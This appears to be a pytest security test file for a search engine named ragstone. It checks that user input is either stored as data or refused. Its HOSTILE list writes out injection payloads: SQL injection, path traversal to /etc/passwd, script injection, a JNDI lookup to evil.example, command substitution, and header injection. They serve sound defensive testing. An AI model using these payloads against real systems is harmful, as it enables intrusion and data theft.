"""Whatever somebody types, wherever: it is taken as data, or refused in our own words, and nothing else happens."""

from __future__ import annotations

import re
import unicodedata
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from ragstone import Engine, Item, Settings, open_engine
from ragstone.core.errors import InputError, NotFoundError, RagstoneError
from ragstone.core.ids import NAME
from ragstone.core.search import SearchQuery
from ragstone.testing.fakes import FakeEmbedder
from ragstone.testing.workspaces import workspace_of

HONEST = "The ferry leaves the north pier at nine."
HOSTILE = (
    "",
    " ",
    "\x00",
    "ferry\x00' OR 1=1 --",
    "' OR '1'='1",
    "'; DROP TABLE documents; --",
    '") OR ("1"="1',
    'ferry" OR content:"pier',
    "NEAR(ferry pier, 5) AND NOT -title:x*",
    "^ferry* + (pier",
    "ferry:*&!pier|<->",
    "%' ESCAPE '\\",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\boot.ini",
    "a/../b/./c",
    "<script>alert(1)</script>",
    "{{7*7}} ${jndi:ldap://evil.example/x} `id` $(id)",
    "%s%s%n",
    "\r\nSet-Cookie: a=b\r\n\r\n",
    "\x1b[31mred\x1b[0m\x07\x9b31m",
    "a\u202egpj.exe",
    "\ud800 lone",
    "\uffff\ufffe\U0010ffff",
    "ı İ ß ﬀ Å \u0301\u0301\u0301",
    "ferry " * 20_000,
    "(" * 5000,
    '{"$ne": null}',
    "__proto__",
    "nan",
    "-1",
    "9" * 400,
)
NUMBERED = pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
OWN = re.compile(r"[a-z0-9]+([-_.:][a-z0-9]+)*")
Way = Callable[[Engine, str], Awaitable[Any]]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def engine(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Engine]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("ragstone.engine.components.build_embedder", lambda _: FakeEmbedder())
        folder = tmp_path_factory.mktemp("inputs")
        async with open_engine(Settings(data_dir=folder / "data")) as opened:
            await workspace_of(opened).documents.ingest_items([Item("honest", "1", "honest/1", HONEST)])
            yield opened


pytestmark = pytest.mark.asyncio(loop_scope="module")
SAID: dict[str, Way] = {
    "query": lambda engine, text: workspace_of(engine).search(text),
    "query by word": lambda engine, text: workspace_of(engine).search(SearchQuery(text, arms="lexical")),
    "question": lambda engine, text: workspace_of(engine).ask(text),
    "claim": lambda engine, text: workspace_of(engine).verify(text),
    "topic": lambda engine, text: workspace_of(engine).research(text),
    "value of a filter": lambda engine, text: workspace_of(engine).search(SearchQuery("ferry", where={"source": text})),
    "field of a filter": lambda engine, text: workspace_of(engine).search(SearchQuery("ferry", where={text: "x"})),
    "operator of a filter": lambda engine, text: workspace_of(engine).search(
        SearchQuery("ferry", where={"source": {text: "x"}})
    ),
    "query of a vote": lambda engine, text: workspace_of(engine).feedback.vote(text, ["0" * 32]),
    "chunk of a vote": lambda engine, text: workspace_of(engine).feedback.vote("ferry", [text]),
    "document": lambda engine, text: workspace_of(engine).documents.get(text),
    "text of a document": lambda engine, text: workspace_of(engine).documents.text(text),
    "deletion": lambda engine, text: workspace_of(engine).documents.delete(text),
    "job": lambda engine, text: workspace_of(engine).jobs.get(text),
    "page of documents": lambda engine, text: workspace_of(engine).documents.list(after=text),
    "kb to search": lambda engine, text: workspace_of(engine).search(SearchQuery("ferry", kb=text)),
    "kb to delete": lambda engine, text: workspace_of(engine).knowledge_bases.delete(text),
    "tenant to search": lambda engine, text: engine.workspace(text).search("ferry"),
    "source": lambda engine, text: workspace_of(engine).sources.get(text),
    "kind of source": lambda engine, text: workspace_of(engine).sources.add(text, "s", {}),
}


async def outcome(work: Awaitable[Any]) -> tuple[Any, str]:
    """What something gave, and the code of the error with which it was refused, if it was."""
    try:
        return await work, ""
    except RagstoneError as error:
        return None, error.code


@pytest.mark.req("R-SEC-07")
@NUMBERED
@pytest.mark.parametrize("way", SAID)
async def test_what_is_asked_is_data_or_refused(engine: Engine, way: str, hostile: str) -> None:
    _, code = await outcome(SAID[way](engine, hostile))
    assert code in ("", "invalid_input", "invalid_filter", "not_found", "unknown_adapter")
    assert [kb.name for kb in await workspace_of(engine).knowledge_bases.list()] == ["default"]
    assert [tenant.name for tenant in await engine.tenants.all()] == ["default"]
    (document,) = await workspace_of(engine).documents.list()
    assert await workspace_of(engine).documents.text(document.id) == HONEST


@pytest.mark.req("R-SEC-07")
@NUMBERED
async def test_names_are_of_a_safe_alphabet_or_refused(engine: Engine, hostile: str) -> None:
    new = Item("test", "1", "test/1", "Something else.")
    if not NAME.fullmatch(hostile):
        with pytest.raises((InputError, NotFoundError)):
            await workspace_of(engine).documents.ingest_items([new], kb=hostile)
        with pytest.raises((InputError, NotFoundError)):
            await engine.workspace(hostile).documents.ingest_items([new])
        with pytest.raises(InputError):
            await workspace_of(engine).sources.add("web", hostile, {"urls": ["https://example.org/"]})
    assert [kb.name for kb in await workspace_of(engine).knowledge_bases.list()] == ["default"]
    assert [tenant.name for tenant in await engine.tenants.all()] == ["default"]


@pytest.mark.req("R-SEC-07")
@NUMBERED
async def test_what_an_upload_says_of_itself_stays_in_its_place(engine: Engine, hostile: str) -> None:
    status, code = await outcome(
        workspace_of(engine).documents.upload(
            HONEST.encode(),
            hostile + ".txt",
            title=hostile[:200],
            metadata={"note": hostile[:1000]},
            external_id=hostile[:100] or None,
            kb="uploads",
        )
    )
    assert code in ("", "invalid_input", "unsupported_format")
    if status:
        await engine.worker().run(until_idle=True)
        found = await workspace_of(engine).documents.get(status.document_id)
        name = str(found.metadata["filename"])
        assert name.isprintable()
        # Controls, and marks that turn the direction of what follows.
        assert not {unicodedata.category(character) for character in found.title} & {"Cc", "Cf"}
        assert not set(name) & {"/", "\\"}
        assert await workspace_of(engine).documents.text(found.id) == HONEST
    around = engine.settings.data_dir.parent
    assert [path for path in around.rglob("*") if not _is_own(path.relative_to(around))] == []
    await workspace_of(engine).knowledge_bases.delete("uploads")


def _is_own(inside: Path) -> bool:
    """Whether a path is one that the engine has named: by ids, and by a few plain words."""
    return inside.parts[0] == "data" and all(OWN.fullmatch(part) for part in inside.parts)
